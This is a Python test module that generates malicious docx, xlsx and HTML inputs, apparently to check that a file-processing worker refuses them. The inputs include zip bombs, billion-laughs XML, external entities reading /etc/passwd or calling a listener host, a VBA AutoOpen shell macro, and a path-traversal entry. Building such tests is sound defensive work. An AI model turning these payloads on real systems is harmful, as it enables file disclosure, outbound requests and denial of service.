"""Zip and XML: bombs, entities, relationships, macros, encryption, parts that are missing or wrong."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tests.workers.hostile.cases import Made, hostile
from tests.workers.hostile.parts import LISTENER, edited, exchanged, part, sound, zipped

DOCUMENT, SHEET, STRINGS = "word/document.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
MEGABYTE = b" " * 1024 * 1024
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _word(xml: bytes) -> bytes:
    return exchanged(sound("docx"), {DOCUMENT: xml})


def _bomb(package: str, name: str, megabytes: int) -> bytes:
    """A part that unpacks to so much."""
    buffer = io.BytesIO()
    whole = sound(package)
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        with new.open(name, "w", force_zip64=True) as opened:
            opened.write(b"<?xml version='1.0'?>")
            for _ in range(megabytes):
                opened.write(MEGABYTE)
    return buffer.getvalue()


def _nested(depth: int) -> bytes:
    content = zipped({"word/document.xml": MEGABYTE * 10})
    for _ in range(depth):
        content = zipped({f"{n}.zip": content for n in range(10)})
    return content


def _lying(package: str, name: str) -> bytes:
    """The directory says that the part has ten bytes."""
    content = bytearray(_bomb(package, name, 60))
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(name.encode()))
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def _overlapping() -> bytes:
    """Many directory entries for one and the same data."""
    content = zipped({DOCUMENT: MEGABYTE * 20})
    at, end = content.rindex(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entry = content[at:end]
    ending = bytearray(content[end:])
    ending[8:12] = struct.pack("<HH", 500, 500)
    ending[12:16] = struct.pack("<I", len(entry) * 500)
    return content[:at] + entry * 500 + bytes(ending)


@hostile("zip bombs")
def _zip_bombs() -> Made:
    yield "one-large-part.docx", lambda: _bomb("docx", DOCUMENT, 150), "refused"
    yield "one-large-sheet.xlsx", lambda: _bomb("xlsx", SHEET, 150), "refused"
    yield "large-styles.docx", lambda: _bomb("docx", "word/styles.xml", 150), "refused"
    yield "ten-thousand-parts.docx", lambda: exchanged(sound("docx"), {f"x/{n}": b"x" for n in range(10_000)})
    yield "zips-within-zips.docx", lambda: _nested(3), "refused"
    yield "lies-about-its-size.docx", lambda: _lying("docx", DOCUMENT), "refused"
    yield "one-part-five-hundred-times.docx", _overlapping, "refused"


def _laughs(root: bytes, inside: bytes) -> bytes:
    entities = b'<!ENTITY a "ha ha ha ha ha ha ha ha ha ha ">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    return b"<?xml version='1.0'?><!DOCTYPE %s [%s]>%s" % (root, entities, inside)


def _blow_up(root: bytes, inside: bytes) -> bytes:
    entity = b'<!ENTITY j "%s">' % (b"a" * 200_000)
    return b"<?xml version='1.0'?><!DOCTYPE %s [%s]>%s" % (root, entity, inside.replace(b"&j;", b"&j;" * 20_000))


@hostile("XML bombs")
def _xml_bombs() -> Made:
    words = b"<w:document %s><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>" % W
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&j;</Types>'
    yield "laughs.docx", lambda: _word(_laughs(b"w:document", words)), "refused"
    yield "blow-up.docx", lambda: _word(_blow_up(b"w:document", words)), "refused"
    yield "laughs-in-strings.xlsx", lambda: exchanged(sound("xlsx"), {STRINGS: _laughs(b"sst", strings)}), "refused"
    yield "blow-up-in-strings.xlsx", lambda: exchanged(sound("xlsx"), {STRINGS: _blow_up(b"sst", strings)}), "refused"
    styles, kinds = _laughs(b"w", words), _laughs(b"T", types)
    yield "laughs-in-styles.docx", lambda: exchanged(sound("docx"), {"word/styles.xml": styles}), "refused"
    yield "laughs-in-types.docx", lambda: exchanged(sound("docx"), {"[Content_Types].xml": kinds}), "refused"
    yield "laughs.html", lambda: _laughs(b"html", b"<html><body><p>&j;</p></body></html>")
    yield (
        "ten-thousand-deep.docx",
        lambda: _word(
            b"<w:document %s><w:body>%s%s</w:body></w:document>" % (W, b"<w:sdt>" * 10_000, b"</w:sdt>" * 10_000)
        ),
    )


def _entity(declared: bytes) -> bytes:
    """A document whose first paragraph would hold what the entity fetches."""
    return (b"<?xml version='1.0'?><!DOCTYPE w:document [%s]><w:document %s><w:body><w:p><w:r>"
            b"<w:t>&x;</w:t></w:r></w:p></w:body></w:document>" % (declared, W))  # fmt: skip


@hostile("external entities")
def _external_entities() -> Made:
    home = LISTENER.encode()
    yield "reads-a-file.docx", lambda: _word(_entity(b'<!ENTITY x SYSTEM "file:///etc/passwd">')), "refused"
    yield "calls-home.docx", lambda: _word(_entity(b'<!ENTITY x SYSTEM "%s">' % home)), "refused"
    yield "by-parameter.docx", lambda: _word(_entity(b'<!ENTITY %% d SYSTEM "%sd.dtd"> %%d;' % home)), "refused"
    yield (
        "in-strings.xlsx",
        lambda: exchanged(sound("xlsx"), {STRINGS: _entity(b'<!ENTITY x SYSTEM "file:///etc/hostname">')}),
        "refused",
    )
    yield (
        "in-properties.docx",
        lambda: exchanged(sound("docx"), {"docProps/core.xml": _entity(b'<!ENTITY x SYSTEM "%s">' % home)}),
        "refused",
    )
    yield (
        "in-utf-16.docx",
        lambda: _word(
            _entity(b'<!ENTITY x SYSTEM "%s">' % home)
            .decode()
            .replace("1.0'", "1.0' encoding='utf-16'")
            .encode("utf-16")
        ),
        "refused",
    )
    yield "by-doctype.html", b'<!DOCTYPE html SYSTEM "%sx.dtd"><html><body><p>No plan.</p></body></html>' % home
    include = b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    yield "by-xinclude.docx", lambda: edited(sound("docx"), DOCUMENT, (b"<w:body>", b"<w:body>" + include))


def _related(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return edited(sound("docx"), "word/_rels/document.xml.rels", (b"</Relationships>", relation.encode()))


@hostile("external relationships")
def _external_relationships() -> Made:
    for kind in ("attachedTemplate", "image", "oleObject", "hyperlink", "frame", "subDocument"):
        yield f"{kind}.docx", lambda kind=kind: _related(kind, LISTENER + kind), "either"
    yield "file-share.docx", lambda: _related("image", "file://///127.0.0.1/share/x.png")
    yield (
        "a-link-to-a-workbook.xlsx",
        lambda: exchanged(sound("xlsx"), {"xl/externalLinks/_rels/externalLink1.xml.rels": LISTENER.encode()}),
    )


MACRO = zipped({"x": b'Sub AutoOpen()\nShell "touch /tmp/ran"\nEnd Sub'})


@hostile("macros")
def _macros() -> Made:
    macro_type = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    plain_type = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    carrying = {"word/vbaProject.bin": MACRO}
    yield (
        "plan.docm",
        lambda: edited(exchanged(sound("docx"), carrying), "[Content_Types].xml", (plain_type, macro_type)),
    )
    yield "macro-in-a-docx.docx", lambda: exchanged(sound("docx"), carrying)
    yield "plan.xlsm", lambda: exchanged(sound("xlsx"), {"xl/vbaProject.bin": MACRO})
    yield "macro-in-an-xlsx.xlsx", lambda: exchanged(sound("xlsx"), {"xl/vbaProject.bin": MACRO})
    yield "macro-sheet.xlsx", lambda: exchanged(sound("xlsx"), {"xl/macrosheets/sheet1.xml": b"<x/>"})
    yield "active-x.docx", lambda: exchanged(sound("docx"), {"word/activeX/activeX1.bin": MACRO})


COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _flagged(package: bytes) -> bytes:
    """Every part marked as encrypted."""
    content = bytearray(package)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


@hostile("encrypted packages")
def _encrypted() -> Made:
    package = COMPOUND + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 4096
    yield "password.docx", package, "refused"
    yield "password.xlsx", package, "refused"
    yield "parts-with-password.docx", lambda: _flagged(sound("docx")), "refused"
    yield "parts-with-password.xlsx", lambda: _flagged(sound("xlsx")), "refused"
    yield "rights-managed.docx", COMPOUND + "DataSpaces".encode("utf-16-le") + b"\x00" * 4096, "refused"


@hostile("truncated")
def _truncated() -> Made:
    for fmt, suffix in (("docx", "docx"), ("xlsx", "xlsx"), ("pdf, ruled", "pdf")):
        for share in (10, 50, 95):
            make: Callable[[], bytes] = lambda fmt=fmt, share=share: sound(fmt)[: len(sound(fmt)) * share // 100]  # noqa: E731
            yield f"first-{share}-per-cent.{suffix}", make, "either" if suffix == "pdf" else "refused"
    yield "cut-in-a-tag.html", lambda: sound("html")[:-30]
    yield "without-its-start.docx", lambda: sound("docx")[40:]


@hostile("parts missing or wrong")
def _missing() -> Made:
    yield "no-document.docx", lambda: exchanged(sound("docx"), {DOCUMENT: None}), "refused"
    yield "no-types.docx", lambda: exchanged(sound("docx"), {"[Content_Types].xml": None}), "refused"
    yield "no-relations.docx", lambda: exchanged(sound("docx"), {"_rels/.rels": None}), "refused"
    yield "no-workbook.xlsx", lambda: exchanged(sound("xlsx"), {"xl/workbook.xml": None}), "refused"
    yield "no-sheet.xlsx", lambda: exchanged(sound("xlsx"), {SHEET: None})
    yield "no-styles.docx", lambda: exchanged(sound("docx"), {"word/styles.xml": None})
    yield "no-strings.xlsx", lambda: exchanged(sound("xlsx"), {STRINGS: None})
    yield "tags-never-closed.docx", lambda: _word(part(sound("docx"), DOCUMENT)[:-200]), "refused"
    yield "document-is-no-xml.docx", lambda: _word(b"Dear all, this is the plan."), "refused"
    yield "document-is-empty.docx", lambda: _word(b""), "refused"
    yield "climbs-out.docx", lambda: exchanged(sound("docx"), {"../../../tmp/climbed-out": b"x"})
    yield "numbering-is-no-xml.docx", lambda: exchanged(sound("docx"), {"word/numbering.xml": b"\x00\x01"})
    yield "a-zip-of-letters.zip", zipped({"letter.txt": b"Dear all"}), "refused"


@hostile("words in odd places of Word")
def _odd_word() -> Made:
    paragraph = b"<w:p><w:r><w:t>Hidden words here</w:t></w:r></w:p>"
    deep = b"<w:tbl><w:tr><w:tc>" * 40 + paragraph + b"<w:p/></w:tc></w:tr></w:tbl>" * 40
    wide = (b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>' + paragraph
            + b"</w:tc></w:tr></w:tbl>")  # fmt: skip
    orphan = b"<w:tbl><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>"
    rtl = b"<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:t>Right to left</w:t></w:r></w:p>"
    hidden = b"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Hidden words here</w:t></w:r></w:p>"
    changes = (b'<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>gone</w:delText></w:r></w:del>'
               b'<w:ins w:id="2" w:author="x"><w:r><w:t>new</w:t></w:r></w:ins></w:p>')  # fmt: skip
    empty = b"<w:tbl></w:tbl><w:tbl><w:tr></w:tr></w:tbl>"
    odd = {"tables-forty-deep": deep, "a-span-of-a-thousand-million": wide, "merged-with-nothing": orphan,
           "right-to-left": rtl, "hidden-words": hidden, "tracked-changes": changes, "empty-tables": empty}  # fmt: skip
    for name, xml in odd.items():
        yield (
            f"{name}.docx",
            lambda xml=xml: edited(sound("docx"), DOCUMENT, (b"<w:body>", b"<w:body>" + xml)),
            "either",
        )
